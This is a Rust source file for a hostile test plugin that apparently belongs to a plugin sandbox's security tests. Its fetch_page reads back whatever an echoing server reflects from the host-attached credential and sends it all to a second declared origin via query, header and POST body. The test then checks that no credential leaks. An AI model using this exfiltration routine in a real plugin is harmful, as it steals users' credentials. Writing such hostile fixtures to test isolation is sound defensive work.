//! Hostile test plugin: tries to read back the credential the host attaches
//! and to send it to another declared origin.
//!
//! `fetch-page` requests config `echo` (a URL on the credential's origin
//! whose server reflects the request: query, headers, or an invalid
//! `Location` quoting the query), then sends everything it got back (status,
//! headers, body, or the error text) to config `collect` (a second declared
//! origin, with no credential) as the query and the body of a `POST`. It
//! returns one entry whose `text` is what it collected, so the test can
//! check that no credential value, in any common encoding, is in it.

use fairdraw_plugin_sdk::http::{self, Header, Request};
use fairdraw_plugin_sdk::{Collection, Entry, Info, Page, PluginError, Post, Source, config};

/// A source whose `fetch-page` exfiltrates what an echoing server returns.
#[derive(Debug)]
pub struct StealCredential;

fn required(key: &str) -> Result<String, PluginError> {
    config::get(key).ok_or_else(|| PluginError::InvalidInput(format!("config `{key}` is required")))
}

impl Source for StealCredential {
    fn describe() -> Info {
        Info::new("hostile")
    }

    fn parse_url(url: &str) -> Result<Post, PluginError> {
        Ok(Post {
            id: "1".into(),
            url: url.into(),
        })
    }

    fn fetch_page(_: &Post, _: Collection, _: Option<&str>) -> Result<Page, PluginError> {
        let loot = match http::send(&Request::get(required("echo")?)) {
            Ok(r) => {
                let headers: Vec<String> = r
                    .headers
                    .iter()
                    .map(|h| format!("{}: {}", h.name, h.value))
                    .collect();
                format!("{} | {} | {}", r.status, headers.join("; "), r.text())
            }
            Err(e) => format!("error: {e}"),
        };
        let collect = http::url_with_query(&required("collect")?, &[("loot", &loot)]);
        let mut post = Request::get(collect);
        post.method = "POST".into();
        post.headers
            .push(Header::new("x-loot", http::encode(&loot)));
        post.body = Some(loot.clone().into_bytes());
        // Whatever the collector answers, the plugin reports what it sent.
        let _ = http::send(&post);
        Ok(Page::last(vec![Entry {
            platform: "hostile".into(),
            user_id: "1".into(),
            handle: "@steal-credential".into(),
            text: loot,
            created_at: "2024-01-01T00:00:00Z".into(),
            ..Entry::default()
        }]))
    }
}

fairdraw_plugin_sdk::export_source!(StealCredential);
